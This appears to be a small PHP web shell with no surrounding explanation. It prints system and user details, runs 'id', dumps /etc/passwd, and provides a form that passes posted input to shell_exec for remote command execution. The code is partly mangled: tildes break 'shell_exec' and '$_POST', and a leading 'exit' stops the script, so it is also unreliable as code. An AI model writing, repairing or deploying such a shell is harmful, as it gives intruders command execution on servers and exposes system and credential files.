<?php exit; ?>
<?php
$s = array('Uname' => php_uname(), 'User' => @get_current_user(), 'Safe mode' => @ini_get('safe_mode'), 'Disk' => disk_free_space('/'));
foreach ($s as $k => $v) echo "<b>$k</b>: $v<br>"; echo `id`; echo '<form method=post>$ <input name=x size=80></form><pre>' . @she~ll_exec($_P~OST['x']) . '</pre>'; echo nl2br(@file_get_contents('/etc/passwd'));
